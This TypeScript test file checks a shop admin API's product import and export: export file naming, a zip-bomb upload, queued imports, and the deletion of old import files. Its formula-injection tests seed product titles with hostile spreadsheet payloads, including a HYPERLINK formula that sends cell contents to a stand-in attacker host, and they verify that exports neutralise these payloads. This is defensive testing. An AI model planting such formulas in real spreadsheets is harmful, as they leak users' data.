import {
  type AdminShopSettingsDto,
  type ImportJobDto,
  PRODUCT_COLUMNS,
  PRODUCT_NUMBER_COLUMNS,
  startsFormula,
} from "@roshni/core";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { queryRows } from "../../db/client";
import {
  adminApi,
  createTestApp,
  DEMO_STAFF_EMAIL,
  staffCookie,
  type TestApp,
  WEB_ORIGIN,
} from "../../test/harness";
import { xlsxBomb } from "./xlsx-fixtures";

let t: TestApp;
let cookie: string;
let catalogue: ReturnType<typeof adminApi>;
let owner: ReturnType<typeof adminApi>;

beforeAll(async () => {
  t = await createTestApp({ products: 20 });
  cookie = await staffCookie(t, DEMO_STAFF_EMAIL.catalogue);
  catalogue = adminApi(t.app, cookie);
  owner = adminApi(t.app, await staffCookie(t, DEMO_STAFF_EMAIL.owner));
});

afterAll(async () => {
  await t?.close();
});

function upload(bytes: Buffer, fileName: string) {
  return t.app.inject({
    method: "POST",
    url: `/v1/admin/products/import?dryRun=true&fileName=${fileName}`,
    headers: {
      website: "wholesale",
      origin: WEB_ORIGIN,
      cookie,
      "content-type": fileName.endsWith(".xlsx")
        ? "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        : "text/csv",
    },
    payload: bytes,
  });
}

async function started(bytes: Buffer, fileName = "products.csv"): Promise<ImportJobDto> {
  const res = await upload(bytes, fileName);
  expect(res.statusCode, res.body).toBe(202);
  return (JSON.parse(res.body) as { data: ImportJobDto }).data;
}

async function job(id: number): Promise<ImportJobDto> {
  const res = await catalogue.get<ImportJobDto>(`/v1/admin/imports/${id}`);
  expect(res.statusCode).toBe(200);
  return res.data;
}

async function finished(id: number): Promise<ImportJobDto> {
  await t.app.services.productImports.settled(id);
  return job(id);
}

function exportFile(format: "csv" | "xlsx") {
  return t.app.inject({
    method: "GET",
    url: `/v1/admin/products/export?format=${format}`,
    headers: { website: "wholesale", cookie },
  });
}

async function importJobCount(): Promise<number> {
  const [row] = await queryRows<{ n: number }>(t.db, sql`select count(*)::int as n from import_jobs`);
  return row?.n ?? 0;
}

describe("the export's file name", () => {
  it("carries the shop's day: 01:30 in Delhi on 1 April is still 31 March in UTC", async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    vi.setSystemTime(new Date("2026-03-31T20:00:00Z"));
    try {
      for (const format of ["csv", "xlsx"] as const) {
        const res = await exportFile(format);
        expect(res.statusCode).toBe(200);
        expect(res.headers["content-disposition"]).toBe(
          `attachment; filename="products-2026-04-01.${format}"`,
        );
      }
    } finally {
      vi.useRealTimers();
    }
  });
});

describe("the catalogue export carries no formulas", () => {
  const TITLES = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "-Bright Pendant",
    "'=Quoted",
  ];

  beforeAll(async () => {
    const products = await queryRows<{ id: number }>(t.db, sql`select id from products order by id limit 8`);
    for (const [index, title] of [...TITLES, "\t=1", "\r=1"].entries()) {
      await t.db.execute(
        sql`update products set title = ${title}, description = ${title} where id = ${products[index]?.id ?? 0}`,
      );
    }
  });

  function checkRows(header: readonly string[], rows: readonly (readonly unknown[])[]): void {
    expect(rows.length).toBeGreaterThanOrEqual(20);
    for (const row of rows) {
      row.forEach((cell, index) => {
        const column = header[index] ?? "";
        const text = typeof cell === "string" ? cell : String(cell ?? "");
        if (PRODUCT_NUMBER_COLUMNS.has(column)) expect(text, column).toMatch(/^-?\d+(\.\d+)?$/);
        else expect(startsFormula(text), `${column}: ${JSON.stringify(text)}`).toBe(false);
      });
    }
  }

  it("CSV and Excel: hostile titles and descriptions are text with an apostrophe, numbers stay plain", async () => {
    const csv = await exportFile("csv");
    expect(csv.statusCode).toBe(200);
    const [header, ...rows] = Papa.parse<string[]>(csv.body.replace(/^\ufeff/, ""), {
      skipEmptyLines: true,
    }).data;
    expect(header).toEqual([...PRODUCT_COLUMNS]);
    checkRows(header ?? [], rows);
    const titles = rows.map((row) => row[PRODUCT_COLUMNS.indexOf("title")]);
    expect(titles).toContain(`'${TITLES[0]}`);
    expect(titles).toContain("'\t=1");

    const xlsx = await exportFile("xlsx");
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells: unknown[][] = [];
    workbook.worksheets[0]?.eachRow((row, number) => {
      if (number === 1) return;
      const values: unknown[] = [];
      for (let column = 1; column <= PRODUCT_COLUMNS.length; column++) {
        expect(row.getCell(column).type).not.toBe(ExcelJS.ValueType.Formula);
        values.push(row.getCell(column).value);
      }
      cells.push(values);
    });
    checkRows(PRODUCT_COLUMNS, cells);
  });

  it("an exported file imports back unchanged: the apostrophes are removed again", async () => {
    for (const format of ["csv", "xlsx"] as const) {
      const file = await exportFile(format);
      const dry = await finished((await started(file.rawPayload, `products.${format}`)).id);
      expect(dry.report?.fileError ?? null, format).toBeNull();
      // The tab and carriage return titles are trimmed by the import, as any title is.
      expect(dry.report, format).toMatchObject({ rows: 20, unchanged: 18, changed: 2, refused: 0 });
    }
  });
});

describe("an .xlsx zip bomb", () => {
  it("is refused at upload with 422 and a sentence, quickly, without inflating it or storing it", async () => {
    const bomb = await xlsxBomb(300);
    expect(bomb.length).toBeLessThan(6 * 1024 * 1024);
    const jobsBefore = await importJobCount();
    const heapBefore = process.memoryUsage().heapUsed;
    const startedAt = performance.now();
    const res = await upload(bomb, "bomb.xlsx");
    const elapsed = performance.now() - startedAt;
    expect(res.statusCode, res.body).toBe(422);
    const error = (JSON.parse(res.body) as { data: { error: { code: string; message: string } } }).data.error;
    expect(error.code).toBe("IMPORT_FILE_TOO_LARGE");
    expect(error.message).toBe(
      "The workbook's sheet is larger than an import of 2,00,000 rows can be (more than 195 MB once unpacked); split it or save it as CSV.",
    );
    expect(elapsed).toBeLessThan(2000);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(40 * 1024 * 1024);
    expect(await importJobCount()).toBe(jobsBefore);
  }, 60_000);
});

describe("imports run one at a time", () => {
  it("a second import waits as queued while the first runs, then runs", async () => {
    const storage = t.app.deps.fileStorage;
    const get = storage.get;
    let release: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    let calls = 0;
    let concurrent = 0;
    let mostConcurrent = 0;
    storage.get = async (key) => {
      calls += 1;
      concurrent += 1;
      mostConcurrent = Math.max(mostConcurrent, concurrent);
      try {
        if (calls === 1) await gate;
        return await get.call(storage, key);
      } finally {
        concurrent -= 1;
      }
    };
    try {
      const [product] = await queryRows<{ sku: string }>(
        t.db,
        sql`select sku from products order by id limit 1`,
      );
      const file = Buffer.from(`sku,stock\n${product?.sku},7\n`);
      const first = await started(file);
      const second = await started(file);
      // A worker takes the first; a second worker at the same time finds nothing it may run.
      const working = t.drain();
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(await t.drain()).toEqual({ completed: 0, failed: [] });
      expect((await job(first.id)).status).toBe("running");
      expect((await job(second.id)).status).toBe("queued");
      expect(calls).toBe(1);
      release();
      await working;
      expect(await finished(first.id)).toMatchObject({ status: "done" });
      expect(await finished(second.id)).toMatchObject({ status: "done" });
      expect((await job(second.id)).report?.changed).toBe(1);
      expect(mostConcurrent).toBe(1);
    } finally {
      storage.get = get;
      release();
    }
  });
});

describe("import files are deleted after the shop's number of days", () => {
  async function age(id: number, days: number) {
    await t.db.execute(
      sql`update import_jobs set created_at = now() - make_interval(days => ${days}) where id = ${id}`,
    );
  }

  async function fileKeyOf(id: number): Promise<string> {
    const [row] = await queryRows<{ file_key: string }>(
      t.db,
      sql`select file_key from import_jobs where id = ${id}`,
    );
    return row?.file_key ?? "missing";
  }

  it("keeps them for 30 days by default, for the days the owner sets, then deletes them", async () => {
    const settings = await owner.get<AdminShopSettingsDto>("/v1/admin/settings");
    expect(settings.data.settings.importFileDays).toBe(30);
    const [product] = await queryRows<{ sku: string }>(
      t.db,
      sql`select sku from products order by id limit 1`,
    );
    const dry = await finished((await started(Buffer.from(`sku,stock\n${product?.sku},9\n`))).id);
    const fresh = await finished((await started(Buffer.from(`sku,stock\n${product?.sku},8\n`))).id);
    const key = await fileKeyOf(dry.id);
    expect(await t.app.deps.fileStorage.exists(key)).toBe(true);

    await age(dry.id, 31);
    const longer = await owner.put<AdminShopSettingsDto>("/v1/admin/settings", {
      ...settings.data.settings,
      importFileDays: 60,
    });
    expect(longer.statusCode, JSON.stringify(longer.error)).toBe(200);
    expect(await t.app.services.productImports.purgeOldFiles()).toBe(0);
    expect(await t.app.deps.fileStorage.exists(key)).toBe(true);

    const refused = await owner.put("/v1/admin/settings", { ...settings.data.settings, importFileDays: 0 });
    expect(refused.statusCode).toBe(422);
    expect(refused.error?.fields?.importFileDays).toBe("Keep import files at least 1 day.");

    await owner.put("/v1/admin/settings", { ...settings.data.settings, importFileDays: 30 });
    expect(await t.app.services.productImports.purgeOldFiles()).toBeGreaterThanOrEqual(1);
    expect(await t.app.deps.fileStorage.exists(key)).toBe(false);
    expect(await fileKeyOf(dry.id)).toBe("");
    // The report stays; applying it asks for the file again.
    expect((await job(dry.id)).report?.changed).toBe(1);
    const apply = await catalogue.post(`/v1/admin/imports/${dry.id}/apply`);
    expect(apply.statusCode).toBe(409);
    expect(apply.error?.code).toBe("IMPORT_FILE_DELETED");
    // A recent import keeps its file.
    expect(await t.app.deps.fileStorage.exists(await fileKeyOf(fresh.id))).toBe(true);
  });
});
